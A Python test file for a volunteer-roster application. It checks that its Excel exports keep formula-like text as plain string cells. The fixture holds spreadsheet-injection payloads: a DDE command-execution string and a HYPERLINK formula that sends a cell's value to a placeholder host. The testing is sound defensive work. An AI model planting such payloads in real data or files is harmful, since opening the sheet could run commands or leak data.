"""Text stays text in every export: data that looks like a formula (=, +, -, @) or an error value (#N/A) is
written as a string cell, never as a formula Excel would run."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from excel_helpers import DEMO_TODAY, fill_demo
from openpyxl import load_workbook

from schema.models import Activity, MonthlyReport, Participation, Region, Team, Volunteer
from schema.reporting import city_reports
from schema.store import Store
from stvs_tui.city.export import export_city_reports
from stvs_tui.excel import (
    export_activities,
    export_certificate,
    export_hours,
    export_monthly,
    export_roster,
    export_teams,
)

# What offices' files really hold: a DDE payload, a link, signed numbers, a mention, an error literal.
HOSTILE = {
    "dde": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.invalid/?q="&A1,"点击")',
    "plus": "+1+2",
    "minus": "-3*4",
    "at": "@SUM(1,2)",
    "error": "#N/A",
}
COUNTY_NAME = '=HYPERLINK("http://example.invalid","安阳县")'


@pytest.fixture
def hostile_store(store: Store) -> Store:
    """A demo county whose free text, in every table an export reads, begins like a formula."""
    fill_demo(store, 40)
    with store.session() as session:
        person = session.execute(sa.select(Volunteer).order_by(Volunteer.created_at)).scalars().first()
        person.work_unit, person.title, person.expertise = HOSTILE["dde"], HOSTILE["plus"], HOSTILE["minus"]
        person.notes, person.availability = HOSTILE["at"], HOSTILE["error"]
        session.add(person)
        for team in session.execute(sa.select(Team)).scalars():
            team.host_unit, team.notes, team.leader_name = HOSTILE["link"], HOSTILE["at"], HOSTILE["minus"]
            session.add(team)
        for activity in session.execute(sa.select(Activity)).scalars():
            activity.title, activity.place, activity.summary = HOSTILE["dde"], HOSTILE["plus"], HOSTILE["link"]
            session.add(activity)
        session.add(MonthlyReport(county_code="410522", period="2026-05", highlights=HOSTILE["dde"]))
        session.get(Region, "410522").name = COUNTY_NAME
        session.commit()
    return store


def _exports(store: Store, folder: Path) -> list[Path]:
    with store.session() as session:
        served = session.execute(sa.select(Participation.volunteer_id).where(
            Participation.deleted.is_(False), Participation.attended.is_(True))).scalars().first()
        reports = city_reports(session, "2026-01", "2026-06", DEMO_TODAY)
    export_roster(store, folder / "roster.xlsx", unmasked=True, today=DEMO_TODAY)
    export_teams(store, folder / "teams.xlsx", today=DEMO_TODAY)
    export_monthly(store, folder / "monthly.xlsx", period="2026-05", today=DEMO_TODAY)
    export_activities(store, folder / "activities.xlsx", today=DEMO_TODAY)
    export_hours(store, folder / "hours.xlsx", today=DEMO_TODAY)
    export_certificate(store, folder / "certificate.xlsx", served, today=DEMO_TODAY)
    export_city_reports(reports, folder / "city.xlsx")
    return sorted(folder.glob("*.xlsx"))


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/sheet"))


def test_no_export_writes_a_formula_from_data(hostile_store: Store, tmp_path: Path) -> None:
    written: set[str] = set()
    for path in _exports(hostile_store, tmp_path):
        xml = _sheet_xml(path)
        assert not re.search(r"<f[ >]", xml), f"{path.name} holds a formula"
        assert 't="e"' not in xml, f"{path.name} holds an error value"
        workbook = load_workbook(path)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@#":
                        assert cell.data_type == "s", f"{path.name} {sheet.title}!{cell.coordinate}"
                        assert cell.quotePrefix or cell.value[:1] not in "=#", \
                            f"{path.name} {sheet.title}!{cell.coordinate} loses its text form when edited"
                    written.add(str(cell.value))
    # Each hostile text came back exactly as stored, as text.
    assert set(HOSTILE.values()) <= written
    assert COUNTY_NAME in written  # the city's grid names the county as the region table has it


def test_roster_keeps_formula_like_text_as_the_same_text(hostile_store: Store, tmp_path: Path) -> None:
    export_roster(hostile_store, tmp_path / "roster.xlsx", unmasked=True, today=DEMO_TODAY)
    sheet = load_workbook(tmp_path / "roster.xlsx").worksheets[0]
    header = [c.value for c in sheet[3]]
    first = {name: cell for name, cell in zip(header, sheet[4], strict=True)}
    assert first["工作单位"].value == HOSTILE["dde"] and first["工作单位"].data_type == "s"
    assert first["职务/职称"].value == HOSTILE["plus"] and first["专业特长"].value == HOSTILE["minus"]
    assert first["备注"].value == HOSTILE["at"] and first["可服务时间"].value == HOSTILE["error"]
    assert sheet["A1"].value.startswith("=HYPERLINK") and sheet["A1"].data_type == "s"
